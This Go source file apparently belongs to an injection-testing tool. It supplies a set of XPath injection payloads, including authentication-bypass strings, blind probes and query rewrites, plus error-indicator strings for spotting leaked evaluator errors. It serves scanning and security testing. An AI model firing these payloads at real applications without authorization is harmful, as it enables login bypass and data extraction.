// Package xpath generates XPath injection payloads. A vulnerable evaluator
// interpolates them into a query verbatim, which either alters the query
// logic or surfaces a parser error; the companion error-indicator list is
// what a response predicate matches against.
package xpath

import "github.com/injectest/injectest/pkg/payload"

// Payloads returns the XPath injection payload set, ordered from cheap
// syntax breakers to structural query rewrites.
func Payloads() []string {
	return []string{
		// Syntax breakers
		"'",
		"\"",
		"' or '1'='1",
		"\" or \"1\"=\"1",
		"' or ''='",

		// Query rewrites
		"' or 1=1 or '",
		"' or 1=1]/*",
		"'] | //user/*[1='",
		"') or ('1'='1",

		// Authentication bypass shapes
		"admin' or '1'='1",
		"' or '1'='1' or '",

		// Blind probes
		"' or string-length(name())=0 or '",
		"' or count(//user)>0 or '",

		// Function abuse
		"' or true() or '",
		"' and false() or '",

		// Axis manipulation
		"']/parent::*['",
		"']/child::*['",
	}
}

// ErrorIndicators returns substrings whose presence in a response body
// marks a leaked XPath evaluator error.
func ErrorIndicators() []string {
	return []string{
		"xpath",
		"xmlerror",
		"xml parsing",
		"simplexml",
		"domdocument",
		"xmlreader",
		"saxparser",
		"invalid expression",
		"invalid predicate",
		"unregistered function",
		"unterminated",
		"expected token",
		"namespace error",
	}
}

// Generator returns the XPath payload set as a payload.Generator.
func Generator() payload.Generator {
	return payload.Slice("xpath-injection", Payloads()...)
}
